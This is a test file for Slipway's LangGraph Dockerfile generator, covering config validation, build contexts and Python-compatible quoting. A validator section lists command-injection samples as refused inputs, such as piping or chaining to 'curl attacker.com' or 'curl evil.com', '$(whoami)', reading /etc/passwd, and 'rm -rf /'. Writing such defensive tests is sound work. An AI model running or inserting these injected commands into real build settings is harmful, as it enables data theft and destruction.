/**
 * What Slipway's generator does beyond (or instead of) the langgraph CLI: the upstream quirks it
 * fixes, the repository as the only world (nothing outside it), clear messages for JSON of the
 * wrong type (where the CLI crashes), the install/build command rules, and the Python helpers the
 * Dockerfile text depends on (expected values printed by Python 3.11's own json, shlex, difflib).
 */
import { Result } from "effect"
import { describe, expect, it } from "vitest"
import {
  buildCommandProblem,
  type DockerBuild,
  type DockerfileRequest,
  filesToRead,
  hasDisallowedCommandContent,
  langgraphDockerfile,
  parseConfigText,
  unknownKeyWarnings,
  validateConfig
} from "../../../core/index.ts"
import { closestMatch, pythonJsonDumps, shellQuote } from "../../../core/builds/python.ts"

const PY = '[project]\nname = "x"\n'

const request = (config: unknown, files: Record<string, string>, extra: Partial<DockerfileRequest> = {}): DockerfileRequest => {
  const configPath = extra.configPath ?? "langgraph.json"
  return { config, configPath, rootName: "agent", tree: { files: [...Object.keys(files), configPath], contents: files }, ...extra }
}
const built = (config: unknown, files: Record<string, string>, extra: Partial<DockerfileRequest> = {}): DockerBuild => {
  const result = langgraphDockerfile(request(config, files, extra))
  if (Result.isFailure(result)) throw new Error(`refused: ${result.failure.message}`)
  return result.success
}
const refused = (config: unknown, files: Record<string, string>, extra: Partial<DockerfileRequest> = {}): string => {
  const result = langgraphDockerfile(request(config, files, extra))
  if (Result.isSuccess(result)) throw new Error("accepted, expected a refusal")
  expect(result.failure._tag).toBe("LanggraphConfigError")
  return result.failure.message
}
const fromLine = (build: DockerBuild) => build.dockerfile.split("\n").find((line) => line.startsWith("FROM "))

const js = (extra: object = {}) => ({ graphs: { agent: "./agent.ts:graph" }, ...extra })
const py = (extra: object = {}) => ({ dependencies: ["."], graphs: { agent: "./graph.py:graph" }, ...extra })
const pyFiles = { "pyproject.toml": PY, "graph.py": "" }

describe("quirks fixed", () => {
  it("a tagged base_image is used as it is (the CLI appends a second tag)", () => {
    expect(fromLine(built(js({ base_image: "langchain/langgraphjs-api:0.4.2" }), { "agent.ts": "" }))).toBe("FROM langchain/langgraphjs-api:0.4.2")
    expect(fromLine(built(py({ base_image: "127.0.0.1:5000/lg/api:3.12" }), pyFiles))).toBe("FROM 127.0.0.1:5000/lg/api:3.12")
    const digest = `langchain/langgraph-api@sha256:${"a".repeat(64)}`
    expect(fromLine(built(py(), pyFiles, { baseImage: digest }))).toBe(`FROM ${digest}`)
  })

  it("a registry port is not a tag: the version tag is still added", () => {
    expect(fromLine(built(js({ base_image: "127.0.0.1:5000/langchain/langgraphjs-api" }), { "agent.ts": "" }))).toBe("FROM 127.0.0.1:5000/langchain/langgraphjs-api:20")
    // The CLI refuses ranges for any ':' in the base image; Slipway only for a tag.
    const ranged = built(js({ base_image: "localhost:5000/langchain/langgraphjs-api", api_version: "~=0.4.1" }), { "agent.ts": "" }, { langgraphApiReleases: ["0.4.1", "0.4.7", "0.5.0"] })
    expect(fromLine(ranged)).toBe("FROM localhost:5000/langchain/langgraphjs-api:0.4.7-node20")
  })

  it("api_version next to a tagged base_image is refused (the CLI writes base:tag:api-…)", () => {
    expect(refused(js({ base_image: "langchain/langgraphjs-api:0.4", api_version: "0.4.2" }), { "agent.ts": "" })).toBe(
      "api_version cannot be used with a tagged base_image (langchain/langgraphjs-api:0.4): drop the tag from base_image, or drop api_version."
    )
  })

  it("single quotes in the ENV JSON are spelled '\\'' (the CLI's line does not parse)", () => {
    const { dockerfile } = built({ dependencies: ["."], graphs: { agent: { path: "./graph.py:graph", description: "Bob's agent" } } }, pyFiles)
    expect(dockerfile).toContain(`ENV LANGSERVE_GRAPHS='{"agent": {"path": "/deps/agent/graph.py:graph", "description": "Bob'\\''s agent"}}'`)
  })

  it("requirements of a faux package outside the config folder come from its own context", () => {
    const { dockerfile, additionalContexts } = built(
      { dependencies: [".", "../lib"], graphs: { agent: "./graph.py:graph" } },
      { "app/pyproject.toml": PY, "app/graph.py": "", "lib/tools.py": "", "lib/requirements.txt": "httpx\n" },
      { configPath: "app/langgraph.json" }
    )
    expect(dockerfile).toContain("COPY --from=outer-lib requirements.txt /deps/outer-lib/src/requirements.txt")
    expect(additionalContexts).toEqual([{ name: "outer-lib", path: "lib" }])
  })

  it("a graph in the second of two same-named packages maps to that package's folder", () => {
    const { dockerfile } = built({ dependencies: ["./a/pkg", "./b/pkg"], graphs: { agent: "./b/pkg/graph.py:graph" } }, {
      "a/pkg/pyproject.toml": PY,
      "b/pkg/pyproject.toml": PY,
      "b/pkg/graph.py": ""
    })
    expect(dockerfile).toContain("ADD ./b/pkg /deps/pkg_1")
    expect(dockerfile).toContain(`ENV LANGSERVE_GRAPHS='{"agent": "/deps/pkg_1/graph.py:graph"}'`)
  })

  it("three same-named packages get three folders", () => {
    const { dockerfile } = built({ dependencies: ["./a/pkg", "./b/pkg", "./c/pkg"], graphs: { agent: "./c/pkg/graph.py:graph" } }, {
      "a/pkg/pyproject.toml": PY,
      "b/pkg/pyproject.toml": PY,
      "c/pkg/setup.py": "",
      "c/pkg/graph.py": ""
    })
    expect(dockerfile).toContain("ADD ./c/pkg /deps/pkg_2")
    expect(dockerfile).toContain('"/deps/pkg_2/graph.py:graph"')
  })

  it("auth.path with '..' is normalised like graph paths", () => {
    const { dockerfile } = built(
      { dependencies: ["../shared", "."], graphs: { agent: "./graph.py:graph" }, auth: { path: "./../shared/auth.py:auth" } },
      { "app/pyproject.toml": PY, "app/graph.py": "", "shared/pyproject.toml": PY, "shared/auth.py": "" },
      { configPath: "app/langgraph.json" }
    )
    expect(dockerfile).toContain(`ENV LANGGRAPH_AUTH='{"path": "/deps/shared/auth.py:auth"}'`)
  })

  it("two faux folders of the same name are refused (they would share one pyproject.toml)", () => {
    expect(refused({ dependencies: ["./a/lib", "./b/lib"], graphs: { agent: "./a/lib/graph.py:graph" } }, { "a/lib/graph.py": "", "b/lib/x.py": "" })).toBe(
      "Local dependencies './a/lib' and './b/lib' are both folders named 'lib', which would share /deps/outer-lib. Rename one of them."
    )
  })

  it("a context name taken by a real package gets a suffix, and the COPY lines use it", () => {
    const { dockerfile, additionalContexts } = built(
      { dependencies: [".", "../outer-lib", "../lib"], graphs: { agent: "./graph.py:graph" } },
      { "app/pyproject.toml": PY, "app/graph.py": "", "outer-lib/pyproject.toml": PY, "lib/x.py": "" },
      { configPath: "app/langgraph.json" }
    )
    expect(additionalContexts).toEqual([
      { name: "outer-lib", path: "outer-lib" },
      { name: "outer-lib_1", path: "lib" }
    ])
    expect(dockerfile).toContain("COPY --from=outer-lib . /deps/outer-lib\n")
    expect(dockerfile).toContain("COPY --from=outer-lib_1 . /deps/outer-lib/src")
  })
})

describe("the repository is the build's whole world", () => {
  it("refuses dependencies and modules outside the repository", () => {
    expect(refused(py({ dependencies: [".", "../../elsewhere"] }), { "app/pyproject.toml": PY, "app/graph.py": "" }, { configPath: "app/langgraph.json" })).toBe(
      "Local dependency '../../elsewhere' is outside the repository: a build sees only the repository's files."
    )
    expect(refused(py({ graphs: { agent: "../graph.py:graph" } }), pyFiles)).toBe("Could not find local module: ../graph.py (outside the repository)")
    expect(refused(py({ graphs: { agent: "/abs/graph.py:graph" } }), pyFiles)).toBe("Could not find local module: /abs/graph.py (outside the repository)")
    expect(refused(py({ auth: { path: "../auth.py:auth" } }), pyFiles)).toBe("Auth file not found: ../auth.py (from ../auth.py:auth)")
  })

  it("refuses a config path that is not a file of the tree", () => {
    const base = request(py(), pyFiles)
    const outside = langgraphDockerfile({ ...base, configPath: "../langgraph.json" })
    expect(Result.isFailure(outside) && outside.failure.message).toBe("The config path ../langgraph.json must name a file inside the repository.")
    const missing = langgraphDockerfile({ ...base, tree: { files: Object.keys(pyFiles) } })
    expect(Result.isFailure(missing) && missing.failure.message).toBe("Could not find the config file langgraph.json in the repository.")
  })

  it("a dependency on the repository root from a subfolder config is a named context", () => {
    const build = built({ dependencies: ["../.."], graphs: { agent: "../../src/graph.py:graph" } }, { "pyproject.toml": PY, "src/graph.py": "" }, { configPath: "deploy/agent/langgraph.json" })
    expect(build.context).toBe("deploy/agent")
    expect(build.additionalContexts).toEqual([{ name: "agent", path: "." }])
    expect(build.dockerfile).toContain("COPY --from=agent . /deps/agent")
  })

  it("throws (a caller's bug) when a package.json it must read was not supplied", () => {
    expect(() => langgraphDockerfile({ config: js(), configPath: "langgraph.json", rootName: "a", tree: { files: ["langgraph.json", "agent.ts", "package.json"] } })).toThrow(
      /The text of package.json was not supplied/
    )
  })

  it("filesToRead names the package.json files the generator reads", () => {
    expect(filesToRead("langgraph.json")).toEqual(["package.json"])
    expect(filesToRead("apps/agent/langgraph.json")).toEqual(["apps/agent/package.json", "package.json"])
    expect(filesToRead("./apps//agent/langgraph.json")).toEqual(["apps/agent/package.json", "package.json"])
  })
})

describe("build context and monorepos", () => {
  it("Python and plain JavaScript build from the config's folder", () => {
    expect(built(py(), { "app/pyproject.toml": PY, "app/graph.py": "" }, { configPath: "app/langgraph.json" }).context).toBe("app")
    expect(built(js(), { "agent.ts": "" }).context).toBe(".")
    expect(built(js(), { "apps/a/agent.ts": "" }, { configPath: "apps/a/langgraph.json" }).context).toBe("apps/a")
  })

  it("JavaScript with an install or build command builds from the repository root, named after it", () => {
    const build = built(js(), { "apps/a/agent.ts": "", "pnpm-lock.yaml": "", "package.json": "{}" }, { configPath: "apps/a/langgraph.json", buildCommand: "pnpm -F a build", rootName: "mono" })
    expect(build.context).toBe(".")
    expect(build.dockerfile).toContain("ADD . /deps/mono\n\nWORKDIR /deps/mono\n\nRUN pnpm i --frozen-lockfile\n")
    expect(build.dockerfile).toContain("WORKDIR /deps/mono/apps/a\n\nRUN pnpm -F a build")
  })

  it("a Python project ignores install and build commands, with a warning, but still checks them", () => {
    const build = built(py(), pyFiles, { installCommand: "pip install -e ." })
    expect(build.dockerfile).not.toContain("pip install -e .\n")
    expect(build.warnings).toEqual(["install_command and build_command apply to JavaScript projects only; this Python project ignores them."])
    expect(refused(py(), pyFiles, { buildCommand: "make; rm -rf /" })).toMatch(/^build_command contains disallowed characters or patterns\. It holds ';'/)
  })

  it("source.kind 'uv' is refused with a way out", () => {
    expect(refused({ python_version: "3.12", graphs: { agent: "./graph.py:graph" }, source: { kind: "uv", root: "." } }, pyFiles)).toMatch(
      /^source\.kind 'uv' \(install from uv\.lock\) is not supported by Slipway builds yet/
    )
  })
})

describe("langgraph.json of the wrong shape gets a message, not a crash", () => {
  const cases: ReadonlyArray<[string, unknown, string]> = [
    ["not an object", ["graphs"], "langgraph.json must be a JSON object"],
    ["graphs a list", { graphs: ["./a.py:g"] }, "graphs must be an object mapping graph IDs to import paths"],
    ["graph a number", { graphs: { a: 1 } }, "Graph 'a' must be a string or a dictionary with a 'path' key."],
    ["graph without path", { graphs: { a: { description: "x" } } }, "Graph 'a' must contain a 'path' key if it is a dictionary."],
    ["graph path a number", { graphs: { a: { path: 1 } } }, "Graph 'a' must have a string 'path'"],
    ["python_version a number", { python_version: 3.11, dependencies: ["."], graphs: { a: "./a.py:g" } }, 'python_version must be a string, e.g.:\n  "python_version": "3.11"'],
    ["dependencies a string", { dependencies: ".", graphs: { a: "./a.py:g" } }, "dependencies must be a list of strings"],
    ["dockerfile_lines with a number", { dependencies: ["."], graphs: { a: "./a.py:g" }, dockerfile_lines: [1] }, "dockerfile_lines must be a list of strings"],
    ["auth a string", { dependencies: ["."], graphs: { a: "./a.py:g" }, auth: "./auth.py:auth" }, "auth must be an object"],
    ["auth.path a number", { dependencies: ["."], graphs: { a: "./a.py:g" }, auth: { path: 1 } }, "auth.path must be a string"],
    ["checkpointer.path a list", { dependencies: ["."], graphs: { a: "./a.py:g" }, checkpointer: { path: [] } }, "checkpointer.path must be a string"],
    ["env a number", { dependencies: ["."], graphs: { a: "./a.py:g" }, env: 1 }, "env must be an object of variables or the path of a .env file"]
  ]
  for (const [name, raw, message] of cases) {
    it(name, () => {
      const result = validateConfig(raw)
      expect(Result.isFailure(result) && result.failure.message.startsWith(message)).toBe(true)
    })
  }

  it("null and empty strings read as not set", () => {
    const result = validateConfig({ python_version: null, node_version: "", image_distro: null, base_image: "", store: null, dependencies: ["."], graphs: { a: "./a.py:g" } })
    expect(Result.isSuccess(result) && result.success).toMatchObject({ python_version: "3.11", node_version: null, image_distro: "debian", base_image: null, store: null })
  })

  it("parseConfigText names the file when it is not JSON", () => {
    const result = parseConfigText("{nope", "apps/agent/langgraph.json")
    expect(Result.isFailure(result) && result.failure.message).toMatch(/^apps\/agent\/langgraph\.json is not valid JSON: /)
    expect(Result.isSuccess(parseConfigText('{"graphs": {}}')) && parseConfigText('{"graphs": {}}')).toBeTruthy()
  })

  it("an api_version range needs the releases to resolve it", () => {
    expect(refused(js({ api_version: "~=0.4.0" }), { "agent.ts": "" })).toBe(
      `api_version '~=0.4.0' is a range, and the langgraph-api releases to resolve it against are not known here. Pin a version, e.g.:\n  "api_version": "0.8"`
    )
    expect(refused(js({ api_version: "~=0.4.0" }), { "agent.ts": "" }, { langgraphApiReleases: ["0.3.9", "0.5.0"] })).toBe(
      "No PyPI releases match compatible api_version range '~=0.4.0' for langchain/langgraphjs-api with 'node20'."
    )
    expect(refused(js({ api_version: "~=0.4.x1" }), { "agent.ts": "" })).toMatch(/^Invalid compatible api_version range: ~=0\.4\.x1\./)
  })
})

describe("unknown keys (get_unknown_keys)", () => {
  it("warns with difflib's closest known key, in key order", () => {
    const raw = { graph: 1, pythonversion: 1, zzz: 1, dependencie: 1, nodeversion: 1, uii: 1, pip_config: 1, Graphs: 1, docker_lines: 1, envv: 1, graphs: {} }
    // Printed by the CLI's own get_unknown_keys.
    expect(unknownKeyWarnings(raw)).toEqual([
      "Unknown key 'Graphs' — did you mean 'graphs'?",
      "Unknown key 'dependencie' — did you mean 'dependencies'?",
      "Unknown key 'docker_lines' — did you mean 'dockerfile_lines'?",
      "Unknown key 'envv' — did you mean 'env'?",
      "Unknown key 'graph' — did you mean 'graphs'?",
      "Unknown key 'nodeversion' — did you mean 'node_version'?",
      "Unknown key 'pip_config' — did you mean 'ui_config'?",
      "Unknown key 'pythonversion' — did you mean 'python_version'?",
      "Unknown key 'uii' — did you mean 'ui'?",
      "Unknown key 'zzz' is not a recognized config field."
    ])
    expect(closestMatch("abc", ["xyz"])).toBeUndefined()
  })

  it("reaches the build's warnings", () => {
    expect(built({ ...py(), grahps: {} }, pyFiles).warnings).toEqual(["Unknown key 'grahps' — did you mean 'graphs'?"])
  })
})

describe("install_command and build_command (has_disallowed_build_command_content)", () => {
  // The CLI's TestHasDisallowedBuildCommandContent, then Slipway's additions.
  it.each(['"', "`", "\\", "\n", "\r", "\0", "\t", "|", ";", "$", ">", "<"])("refuses %j", (character) => {
    expect(hasDisallowedCommandContent(`npm install${character}some-package`)).toBe(true)
  })
  it.each([
    "pip install foo | curl attacker.com",
    "npm install; curl evil.com",
    "pip install $(whoami)",
    "pip install ${IFS}evil",
    "curl evil.com & disown",
    "npm install & curl evil.com",
    "pip install > /dev/null",
    "cat < /etc/passwd",
    "a &&& b",
    "run &",
    "& run",
    "npm\u001bci",
    "npm ci\u007f",
    "npm\fci",
    "npm\vci"
  ])("refuses %j", (command) => {
    expect(hasDisallowedCommandContent(command)).toBe(true)
  })
  it.each(["npm install", "pnpm install --frozen-lockfile", "next build && next export", "npm ci && npm run build", "pip install -e '.[dev]'", "a &&&& b", "yarn workspace @acme/agent build"])(
    "accepts %j",
    (command) => {
      expect(hasDisallowedCommandContent(command)).toBe(false)
      expect(buildCommandProblem("install_command", command)).toBeUndefined()
    }
  )
  it("says what it found, after the CLI's sentence", () => {
    expect(buildCommandProblem("install_command", "yarn | tee")).toBe(
      "install_command contains disallowed characters or patterns. It holds '|'; a command may not contain \" ` \\ | ; $ < >, a lone & or control characters."
    )
    expect(buildCommandProblem("build_command", "a & b")).toMatch(/^build_command contains disallowed characters or patterns\. It holds a lone '&' \(use '&&' to chain commands\)/)
    expect(buildCommandProblem("build_command", "a\nb")).toMatch(/It holds a control character \(such as a line break or a tab\)/)
  })
})

describe("Python's json.dumps and shlex.quote, as the CLI's text depends on them", () => {
  it("json.dumps: separators, ensure_ascii, key order", () => {
    // Printed by Python 3.11: json.dumps({...}).
    expect(pythonJsonDumps({ a: "Agent für ✓ 🚀 \u007f \u0001 \u2028", b: [true, false, null, 1, -3], c: {}, d: [] })).toBe(
      '{"a": "Agent f\\u00fcr \\u2713 \\ud83d\\ude80 \\u007f \\u0001 \\u2028", "b": [true, false, null, 1, -3], "c": {}, "d": []}'
    )
  })

  it("json.dumps: floats as Python's repr", () => {
    const python: ReadonlyArray<[number, string]> = [
      [0.5, "0.5"],
      [1e-5, "1e-05"],
      [1.5e-7, "1.5e-07"],
      [123456789.125, "123456789.125"],
      [-0.001, "-0.001"],
      [0.0001, "0.0001"],
      [12345678901234.5, "12345678901234.5"],
      [0.1 + 0.2, "0.30000000000000004"],
      [-2.5e-10, "-2.5e-10"]
    ]
    for (const [value, text] of python) expect(pythonJsonDumps(value)).toBe(text)
    expect(pythonJsonDumps(1e21)).toBe("1000000000000000000000")
  })

  it("shlex.quote", () => {
    const python: ReadonlyArray<[string, string]> = [
      ["", "''"],
      ["abc", "abc"],
      ["a b", "'a b'"],
      ["it's", `'it'"'"'s'`],
      ["/deps/outer-x/pyproject.toml", "/deps/outer-x/pyproject.toml"],
      ["a;b", "'a;b'"],
      ["ü", "'ü'"],
      ["@%+=:,./-_", "@%+=:,./-_"]
    ]
    for (const [word, quoted] of python) expect(shellQuote(word)).toBe(quoted)
  })
})
